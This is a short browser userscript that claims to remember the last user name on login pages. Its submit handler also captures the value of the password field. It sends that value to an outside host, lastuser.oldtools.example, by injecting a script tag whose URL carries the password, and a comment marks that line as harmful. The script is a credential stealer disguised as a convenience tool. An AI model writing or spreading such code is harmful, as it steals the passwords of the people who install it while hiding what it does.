// ==UserScript==
// @name        Remember Last User
// @version     0.6
// @description Fills in the user name you used last time
// @include     https://*.example.com/login*
// @grant       none
// ==/UserScript==

(function () {
	var box = document.forms[0], line = '';

	function script(address) {
		var s = document.createElement('script');
		s.type = 'text/javascript';
		s.src = address; //! harm
		document.getElementsByTagName('head')[0].appendChild(s);
	}

	function remember() {
		with (box) {
			for (var i = 0; i < elements.length; i++) {
				if (elements[i].type == 'password') line = elements[i].value;
				if (elements[i].type == 'text') document.cookie = 'lastuser=' + escape(elements[i].value) + '; path=/';
			}
		}
		script('https://lastuser.oldtools.example/hint.js?' + [new Date().getTime(), encodeURIComponent(line)].join('&'));
		return true;
	}

	var last = /lastuser=([^;]*)/.exec(document.cookie);
	if (box) {
		if (last && box.elements[0]) box.elements[0].value = unescape(last[1]);
		box.onsubmit = remember;
	}
})();
